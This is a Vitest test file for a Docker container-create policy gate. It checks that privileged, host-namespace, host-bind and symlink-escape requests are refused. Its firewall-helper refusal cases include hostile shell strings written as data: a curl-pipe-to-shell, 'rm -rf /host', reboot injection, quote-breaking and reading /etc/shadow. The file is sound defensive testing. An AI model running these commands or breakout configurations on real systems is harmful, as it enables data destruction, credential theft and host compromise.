import { mkdtempSync, mkdirSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { type CreatePolicySettings, containerCreateProblem, joinedNetworks, networkJoinProblem } from './container-create-policy.ts';

/** A real volumes root with one volume directory (bind sources are read on the filesystem). */
const volumesRoot = mkdtempSync(join(tmpdir(), 'gate-create-'));
const VOLUME = join(volumesRoot, 'vol_0123456789abcdefghij');
mkdirSync(VOLUME);
afterAll(() => rmSync(volumesRoot, { recursive: true, force: true }));
const settings: CreatePolicySettings = { bindRoots: [volumesRoot], helperImage: 'tidepool/base:latest', runtimes: ['runc', 'runsc'] };
const CAPS = ['CHOWN', 'DAC_OVERRIDE', 'FOWNER', 'FSETID', 'KILL', 'SETGID', 'SETUID', 'SETPCAP', 'SETFCAP', 'NET_BIND_SERVICE', 'SYS_CHROOT', 'AUDIT_WRITE'];

/** A sandbox container as apps/api/src/runtime/docker/docker-runtime.ts creates it. */
function sandbox(host: Record<string, unknown> = {}, top: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    Image: 'tidepool/base:latest',
    name: 'tidepool-sbx1',
    Hostname: 'sbx1',
    Labels: { 'dev.tidepool.sandbox-id': 'sbx1', 'dev.tidepool.template-id': 'base', 'dev.tidepool.platform-id': 'p1' },
    Env: ['E2B_SANDBOX_ID=sbx1'],
    Entrypoint: ['/opt/tidepool/bin/tini', '--', '/opt/tidepool/bin/envd'],
    Cmd: [],
    HostConfig: {
      NetworkMode: 'tidepool',
      NanoCpus: 2e9,
      Memory: 512 << 20,
      MemorySwap: 512 << 20,
      PidsLimit: 1024,
      Ulimits: [{ Name: 'nofile', Soft: 16384, Hard: 16384 }],
      CapDrop: ['ALL'],
      CapAdd: CAPS,
      RestartPolicy: { Name: 'no' },
      ...host,
    },
    ...top,
  };
}

const quote = (arg: string): string => `'${arg.replace(/'/g, `'\\''`)}'`;
const iptablesScript = (args: string[]): string => `exec chroot /host iptables -w ${args.map(quote).join(' ')}`;

/** The firewall helper as apps/api/src/runtime/docker/firewall-commands.ts creates it. */
function helper(script: string, env: string[] = [], host: Record<string, unknown> = {}, top: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    Image: 'tidepool/base:latest',
    Entrypoint: ['/bin/sh', '-c', script],
    Cmd: [],
    Env: env,
    User: '0',
    Labels: { 'dev.tidepool.firewall-helper': 'true' },
    HostConfig: { NetworkMode: 'host', CapAdd: ['NET_ADMIN', 'NET_RAW'], Binds: ['/:/host'], AutoRemove: false, ...host },
    ...top,
  };
}

describe('containerCreateProblem', () => {
  it('accepts the sandbox, build and probe containers the platform makes', () => {
    expect(containerCreateProblem(sandbox(), settings)).toBeUndefined();
    expect(containerCreateProblem(sandbox({ Runtime: 'runsc', StorageOpt: { size: '10240M' } }), settings)).toBeUndefined();
    expect(containerCreateProblem(sandbox({ NetworkMode: 'none' }, { Labels: { 'dev.tidepool.build-role': 'container', 'dev.tidepool.platform-id': 'p' }, User: 'root' }), settings)).toBeUndefined();
    expect(containerCreateProblem({ Image: 'tidepool/base:latest', Entrypoint: ['/bin/true'], Cmd: [], Labels: { 'dev.tidepool.probe': 'disk-quota' }, HostConfig: { NetworkMode: 'none', StorageOpt: { size: '64M' } } }, settings)).toBeUndefined();
    expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}:/data:rw`] }), settings)).toBeUndefined();
    expect(containerCreateProblem(sandbox({ Mounts: [{ Type: 'bind', Source: VOLUME, Target: '/data' }, { Type: 'tmpfs', Target: '/tmp' }] }), settings)).toBeUndefined();
    // Sandbox volume mounts exactly as docker-runtime.ts makes them.
    const volume = { Type: 'bind', Source: VOLUME, Target: '/mnt/data', ReadOnly: false, BindOptions: { Propagation: 'rprivate' } };
    expect(containerCreateProblem(sandbox({ Mounts: [volume] }), settings)).toBeUndefined();
    expect(containerCreateProblem(sandbox({ Mounts: [{ ...volume, Source: volumesRoot }] }), settings)).toMatch(/outside/);
  });

  it('refuses containers without the platform labels', () => {
    expect(containerCreateProblem(sandbox({}, { Labels: {} }), settings)).toMatch(/platform labels/);
    expect(containerCreateProblem(sandbox({}, { Labels: { 'dev.tidepool.envd-version': '1' } }), settings)).toMatch(/platform labels/);
    expect(containerCreateProblem(sandbox({}, { Labels: { 'dev.tidepool.platform-id': '' } }), settings)).toMatch(/platform labels/);
    expect(containerCreateProblem({ Image: 'x' }, settings)).toMatch(/platform labels/);
    expect(containerCreateProblem([], settings)).toMatch(/JSON object/);
    expect(containerCreateProblem('x', settings)).toMatch(/JSON object/);
  });

  it('refuses privileges, whatever the spelling of the field', () => {
    const refused: [Record<string, unknown>, Record<string, unknown>?][] = [
      [{ Privileged: true }],
      [{ privileged: true }],
      [{ PRIVILEGED: 1 }],
      [{ Privileged: false, privileged: true }],
      [{ PidMode: 'host' }],
      [{ pidmode: 'container:abc' }],
      [{ IpcMode: 'host' }],
      [{ UTSMode: 'host' }],
      [{ UsernsMode: 'host' }],
      [{ CgroupnsMode: 'host' }],
      [{ NetworkMode: 'host' }],
      [{ NetworkMode: 'container:abc' }],
      [{ Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] }],
      [{ DeviceRequests: [{ Count: -1 }] }],
      [{ DeviceCgroupRules: ['a *:* rwm'] }],
      [{ CapAdd: ['SYS_ADMIN'] }],
      [{ CapAdd: ['cap_net_admin'] }],
      [{ CapAdd: ['ALL'] }],
      [{ CapAdd: ['NET_RAW'] }],
      [{ SecurityOpt: ['seccomp=unconfined'] }],
      [{ SecurityOpt: ['apparmor=unconfined'] }],
      [{ Binds: ['/:/host'] }],
      [{ Binds: ['/var/run/docker.sock:/var/run/docker.sock'] }],
      [{ Binds: [`${volumesRoot}/../../../etc:/etc2`] }],
      [{ Binds: [`${volumesRoot}X/vol_0123456789abcdefghij:/x`] }],
      [{ Binds: ['somevolume:/x'] }],
      [{ Binds: [`${VOLUME}:/x:rshared`] }],
      [{ Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] }],
      [{ Mounts: [{ Type: 'volume', Source: 'v', Target: '/x', VolumeOptions: { DriverConfig: { Options: { device: '/' } } } }] }],
      [{ Mounts: [{ Type: 'bind', Source: VOLUME, Target: '/x', BindOptions: { Propagation: 'rshared' } }] }],
      [{ VolumesFrom: ['other'] }],
      [{ PortBindings: { '22/tcp': [{ HostPort: '2222' }] } }],
      [{ PublishAllPorts: true }],
      [{ Sysctls: { 'kernel.x': '1' } }],
      [{ CgroupParent: '/' }],
      [{ Runtime: 'weird' }],
      [{ LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'tcp://10.0.0.1:514' } } }],
      // Go tells an empty list from none: MaskedPaths: [] unmasks /proc, ReadonlyPaths: [] makes /proc/sys writable.
      [{ MaskedPaths: [] as string[] }],
      [{ ReadonlyPaths: [] as string[] }],
      [{ maskedpaths: [] as string[] }],
      [{}, { HostConfig: undefined, MaskedPaths: [] as string[] }],
      [{}, { ReadonlyPaths: [] as string[] }],
      [{ Sysctls: {} }],
      [{ Futurefield: 1 }],
      [{ Bindſ: ['/:/host'] }],
      [{}, { Privileged: true, HostConfig: undefined }],
      [{}, { Binds: ['/:/host'] }],
      [{}, { NetworkingConfig: { EndpointsConfig: { host: {} } } }],
    ];
    for (const [host, top] of refused) {
      expect(containerCreateProblem(sandbox(host, top), settings), JSON.stringify([host, top])).toBeTypeOf('string');
    }
    // Each refusal above names what it refuses (not some other field of the body).
    for (const [host, top] of [
      [{ MaskedPaths: [] }, {}],
      [{ ReadonlyPaths: [] }, {}],
      [{}, { HostConfig: undefined, MaskedPaths: [] }],
    ] as [Record<string, unknown>, Record<string, unknown>][]) {
      expect(containerCreateProblem(sandbox(host, top), settings), JSON.stringify([host, top])).toMatch(/maskedpaths|readonlypaths/i);
    }
  });

  it('refuses binds when no roots are configured', () => {
    expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}:/x`] }), { ...settings, bindRoots: [] })).toMatch(/not allowed/);
  });

  describe('networks', () => {
    it('joins none or named networks, never the default bridge, the host\'s or another container\'s', () => {
      expect(containerCreateProblem(sandbox({ NetworkMode: 'none' }), settings)).toBeUndefined();
      expect(containerCreateProblem(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: {} } } }), settings)).toBeUndefined();
      expect(containerCreateProblem(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: { Aliases: null, Links: [] } } } }), settings)).toBeUndefined();
      for (const mode of ['', 'default', 'bridge']) expect(containerCreateProblem(sandbox({ NetworkMode: mode }), settings), mode).toMatch(/default bridge/);
      expect(containerCreateProblem(sandbox({ NetworkMode: undefined }), settings)).toMatch(/default bridge/);
      expect(containerCreateProblem(sandbox({}, { NetworkingConfig: { EndpointsConfig: { bridge: {} } } }), settings)).toMatch(/network 'bridge' is not allowed/);
      expect(containerCreateProblem(sandbox({ NetworkMode: 'container:abc' }), settings)).toMatch(/not allowed/);
    });

    it('refuses endpoint settings: aliases, links, addresses, driver options', () => {
      for (const endpoint of [
        { Aliases: ['api', 'docker-gate'] },
        { aliases: ['docker-gate'] },
        { Links: ['other:db'] },
        { IPAMConfig: { IPv4Address: '172.30.0.2' } },
        { DriverOpts: { 'com.docker.network.endpoint.sysctls': 'net.ipv4.conf.IFNAME.forwarding=1' } },
        { MacAddress: '02:42:ac:1e:00:02' },
        { IPAddress: '172.30.0.2' },
      ]) {
        const body = sandbox({}, { NetworkingConfig: { EndpointsConfig: { tidepool: endpoint } } });
        expect(containerCreateProblem(body, settings), JSON.stringify(endpoint)).toMatch(/endpoint setting .* is not allowed/);
      }
      expect(containerCreateProblem(sandbox({}, { NetworkingConfig: { EndpointsConfig: ['tidepool'] } }), settings)).toMatch(/must be an object/);
    });

    it('lists the networks a create joins, for the gate to look them up', () => {
      expect(joinedNetworks(sandbox())).toEqual(['tidepool']);
      expect(joinedNetworks(sandbox({ NetworkMode: 'none' }))).toEqual([]);
      expect(joinedNetworks(sandbox({ NetworkMode: 'tidepool' }, { NetworkingConfig: { EndpointsConfig: { tidepool: {}, 'other-db': {} } } }))).toEqual(['tidepool', 'other-db']);
      expect(joinedNetworks(helper(iptablesScript(['-S', 'DOCKER-USER'])))).toEqual([]);
    });

    it('joins only networks the platform made or the configured ones', () => {
      expect(networkJoinProblem('tidepool', { name: 'tidepool', managed: true }, [])).toBeUndefined();
      expect(networkJoinProblem('abc123', { name: 'tidepool-compose-sandboxes', managed: false }, ['tidepool-compose-sandboxes'])).toBeUndefined();
      expect(networkJoinProblem('tidepool_gate', { name: 'tidepool_gate', managed: false }, ['tidepool-compose-sandboxes'])).toMatch(/not a Tidepool platform network/);
      expect(networkJoinProblem('bridge', { name: 'bridge', managed: false }, [])).toMatch(/not a Tidepool platform network/);
    });
  });

  describe('symbolic links under a bind root', () => {
    const escape = join(volumesRoot, 'vol_escapeescapeescape');
    const dangling = join(volumesRoot, 'vol_danglingdangling1');
    symlinkSync('/', escape);
    symlinkSync(join(volumesRoot, 'gone', '.ssh'), dangling);

    it('allows real volume directories and refuses links, dangling ones included', () => {
      expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}:/data`] }), settings)).toBeUndefined();
      expect(containerCreateProblem(sandbox({ Binds: [`${VOLUME}/not-yet:/data`] }), settings)).toMatch(/does not exist/);
      expect(containerCreateProblem(sandbox({ Binds: [`${escape}:/data`] }), settings)).toMatch(/symbolic link/);
      expect(containerCreateProblem(sandbox({ Binds: [`${escape}/etc:/data`] }), settings)).toMatch(/symbolic link/);
      expect(containerCreateProblem(sandbox({ Mounts: [{ Type: 'bind', Source: dangling, Target: '/data' }] }), settings)).toMatch(/symbolic link/);
    });
  });

  describe('the firewall helper', () => {
    it('is allowed in exactly the shapes the platform makes', () => {
      expect(containerCreateProblem(helper(iptablesScript(['-S', 'DOCKER-USER'])), settings)).toBeUndefined();
      expect(containerCreateProblem(helper(iptablesScript(['-t', 'filter', '-I', 'DOCKER-USER', '1', '-i', 'br-0123456789ab', '-m', 'comment', '--comment', 'tidepool-isolation/tidepool', '-j', 'TP-FWD-0123456789ab'])), settings)).toBeUndefined();
      expect(containerCreateProblem(helper(`cat /host${quote('/etc/resolv.conf')} 2>/dev/null || true`), settings)).toBeUndefined();
      expect(containerCreateProblem(helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=*filter\nCOMMIT\n']), settings)).toBeUndefined();
      expect(containerCreateProblem(helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
    });

    it('refuses anything else carrying its label', () => {
      const refused = [
        helper('sh -c "curl evil | sh"'),
        helper(`${iptablesScript(['-S', 'DOCKER-USER'])}; rm -rf /host`),
        helper(`exec chroot /host iptables -w '-S' $(reboot)`),
        helper(`exec chroot /host iptables -w '-S'\\''; reboot; '\\'`),
        helper(`cat /host${quote('/etc/shadow')} 2>/dev/null || true`),
        helper(iptablesScript(['-I', 'DOCKER-USER', '-m', 'comment', '--comment', "it's tidepool"])),
        helper(iptablesScript(['-S', 'DOCKER-USER']), ['LD_PRELOAD=/host/x.so']),
        helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=x', 'PATH=/x']),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Privileged: true }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { PidMode: 'host' }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/:/host', '/root:/root'] }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/etc:/host'] }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { NetworkMode: 'tidepool' }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Image: 'busybox' }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { User: 'user' }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Cmd: ['x'] }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Privileged: true }),
        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
      ];
      for (const body of refused) expect(containerCreateProblem(body, settings), JSON.stringify(body)).toBeTypeOf('string');
    });
  });
});
